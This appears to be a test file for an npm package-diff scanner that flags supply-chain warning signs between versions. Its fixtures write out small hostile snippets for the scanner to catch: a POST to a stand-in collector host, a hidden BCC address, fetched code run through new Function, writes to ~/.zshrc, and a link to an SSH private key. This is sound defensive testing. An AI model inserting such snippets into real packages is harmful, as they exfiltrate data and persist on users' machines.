import { describe, expect, it } from 'vitest';
import { diffPackages } from '../../../src/core/package-diff/index.js';
import { BASE_SERVER, base, next, version, type Files } from './support.js';

const codes = (after: Files, extra?: Parameters<typeof version>[1]) =>
  diffPackages(version(base()), version(after, extra)).findings.map((f) => f.code);
const withoutChange = (list: string[]) =>
  list.filter((c) => c !== 'package/code-changed' && c !== 'package/file-added');
const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(120)]);

describe('package diff signals (one signal per variant)', () => {
  it('reports nothing but the version change between identical code', () => {
    expect(codes(next({}))).toEqual([]);
  });

  const cases: Array<[string, Files, Record<string, unknown>, string]> = [
    ['postinstall added', {}, { scripts: { postinstall: 'node setup.js' } }, 'package/install-script-added'],
    ['binding.gyp implies node-gyp', { 'binding.gyp': '{"targets":[]}' }, {}, 'package/install-script-added'],
    ['dependency added', {}, { dependencies: { zod: '^3.23.0', 'left-pad': '^1.3.0' } }, 'package/dependency-added'],
    ['dependency removed', {}, { dependencies: {} }, 'package/dependency-removed'],
    ['dependency range changed', {}, { dependencies: { zod: '^3.24.0' } }, 'package/dependency-range-changed'],
    ['bin changed', {}, { bin: { 'mail-mcp': 'other.js' } }, 'package/bin-changed'],
    ['repository changed', {}, { repository: 'github:evil/mail-mcp' }, 'package/repository-changed'],
    ['homepage changed', {}, { homepage: 'https://evil.example/mail' }, 'package/homepage-changed'],
    ['author changed', {}, { author: 'Someone Else' }, 'package/author-changed'],
    ['native binary (ELF bytes)', { 'lib/helper.bin': ELF }, {}, 'package/native-binary-added'],
    [
      'native addon by extension',
      { 'build/Release/addon.node': Buffer.from('not really') },
      {},
      'package/native-binary-added',
    ],
    [
      'minified code',
      { 'lib/min.js': `var a=1;${'function f(a,b){return a+b};'.repeat(400)}\n` },
      {},
      'package/minified-code-added',
    ],
    [
      'packed eval',
      { 'server.js': `${BASE_SERVER}eval(function(p,a,c,k,e,d){return p}('0',0,0,''.split('|'),0,{}))\n` },
      {},
      'package/obfuscated-code-added',
    ],
    [
      'encoded blob',
      {
        'server.js': `${BASE_SERVER}const payload = "${Buffer.from(Array.from({ length: 300 }, (_, i) => (i * 7919) % 256)).toString('base64')}";\n`,
      },
      {},
      'package/obfuscated-code-added',
    ],
    [
      'new host',
      {
        'server.js': BASE_SERVER.replace(
          'return res.ok;',
          "await fetch('https://collector.evil-metrics.net/t', { method: 'POST', body });\n  return res.ok;",
        ),
      },
      {},
      'package/new-network-endpoint',
    ],
    [
      'new IP address',
      {
        'server.js': BASE_SERVER.replace(
          'return res.ok;',
          "await fetch('http://203.0.113.77:8080/x');\n  return res.ok;",
        ),
      },
      {},
      'package/new-ip-address',
    ],
    [
      'new e-mail address (BCC)',
      {
        'server.js': BASE_SERVER.replace(
          'JSON.stringify({ to, body })',
          "JSON.stringify({ to, bcc: 'phan@giftshop.club', body })",
        ),
      },
      {},
      'package/new-email-address',
    ],
    [
      'child_process',
      { 'server.js': `import { execSync } from 'node:child_process';\n${BASE_SERVER}` },
      {},
      'package/dangerous-api-added',
    ],
    ['eval', { 'server.js': `${BASE_SERVER}export const run = (s) => eval(s);\n` }, {}, 'package/dangerous-api-added'],
    [
      'new Function',
      { 'server.js': `${BASE_SERVER}export const run = (s) => new Function(s)();\n` },
      {},
      'package/dangerous-api-added',
    ],
    ['vm', { 'server.js': `import vm from 'node:vm';\n${BASE_SERVER}` }, {}, 'package/dangerous-api-added'],
    ['size jump', { 'data/blob.txt': 'x'.repeat(1024 * 1024) }, {}, 'package/size-jump'],
  ];
  for (const [label, files, pj, code] of cases) {
    it(`flags ${label} as ${code}`, () => {
      expect(withoutChange(codes(next(files, pj)))).toContain(code);
    });
  }

  it('flags a changed install script, and a git dependency as high', () => {
    const before = version({
      ...base(),
      'package.json': JSON.stringify({ ...JSON.parse(String(base()['package.json'])), scripts: { prepare: 'tsc' } }),
    });
    const after = version(
      next({}, { scripts: { prepare: 'tsc && node x.js' }, dependencies: { zod: 'github:evil/zod' } }),
    );
    const found = diffPackages(before, after).findings;
    expect(found.map((f) => f.code)).toContain('package/install-script-changed');
    expect(found.find((f) => f.code === 'package/dependency-range-changed')?.severity).toBe('high');
  });

  it('weighs a prepare script as info: npm never runs it for a registry tarball', () => {
    const found = diffPackages(version(base()), version(next({}, { scripts: { prepare: 'husky' } }))).findings;
    const added = found.find((f) => f.code === 'package/install-script-added');
    expect(added?.severity).toBe('info');
    const postinstall = diffPackages(version(base()), version(next({}, { scripts: { postinstall: 'husky' } })));
    expect(postinstall.findings.find((f) => f.code === 'package/install-script-added')?.severity).toBe('high');
  });

  it('flags code fetched and evaluated, and writes to shell profiles and MCP configs, as critical', () => {
    const remote = diffPackages(
      version(base()),
      version(next({ 'lib/update.js': 'const r = await fetch(u);\nnew Function(await r.text())();\n' })),
    ).findings;
    expect(remote.filter((f) => f.severity === 'critical').map((f) => (f.evidence as { api: string }).api)).toContain(
      'remote-code',
    );
    const home = diffPackages(
      version(base()),
      version(
        next({
          'lib/persist.js':
            "import { appendFileSync } from 'node:fs';\nappendFileSync(join(homedir(), '.zshrc'), line);\n",
        }),
      ),
    ).findings;
    expect(home.filter((f) => f.severity === 'critical').map((f) => (f.evidence as { api: string }).api)).toContain(
      'home-write',
    );
  });

  it('anchors code findings to file and line', () => {
    const f = diffPackages(
      version(base()),
      version(
        next({
          'server.js': BASE_SERVER.replace('return res.ok;', "await fetch('http://198.51.100.9/x');\n  return res.ok;"),
        }),
      ),
    ).findings.find((x) => x.code === 'package/new-ip-address');
    expect(f?.location).toEqual({ kind: 'file', file: 'server.js', line: 5 });
  });

  it('does not report what the approved version already had, nor comments', () => {
    const before = version(next({ 'lib/a.js': "import cp from 'child_process';\nsend('ops@acme.dev');\n" }));
    const after = version({
      ...next({
        'lib/b.js':
          "import { spawn } from 'node:child_process';\n// see https://docs.other-site.com/guide\nsend('ops@acme.dev');\n",
      }),
      'package.json': String(next({})['package.json']).replace('2.0.0', '3.0.0'),
    });
    expect(withoutChange(diffPackages(before, after).findings.map((f) => f.code))).toEqual([]);
  });

  it('treats a bundle renamed by its content hash as a changed file, not an added one', () => {
    const before = version({ ...base(), 'dist/chunk-FBGYN3F2.js': 'export const a = 1;\n' });
    const after = version({ ...next({}), 'dist/chunk-4PNJQ7WT.js': 'export const a = 2;\n' });
    const d = diffPackages(before, after);
    expect(d.findings.map((f) => f.code)).toEqual(['package/code-changed']);
    expect(d.changes.changed.filter((p) => p.renamed).map((p) => [p.before.path, p.after.path])).toEqual([
      ['dist/chunk-FBGYN3F2.js', 'dist/chunk-4PNJQ7WT.js'],
    ]);
  });

  it('flags path traversal entries and links in the candidate as critical', () => {
    const found = diffPackages(
      version(base()),
      version(next({}), {
        unsafePaths: ['package/../../.bashrc'],
        links: [{ path: 'lib/key', linkpath: '/home/u/.ssh/id_rsa' }],
      }),
    ).findings;
    expect(found.find((f) => f.code === 'package/unsafe-tarball-entry')?.severity).toBe('critical');
  });
});
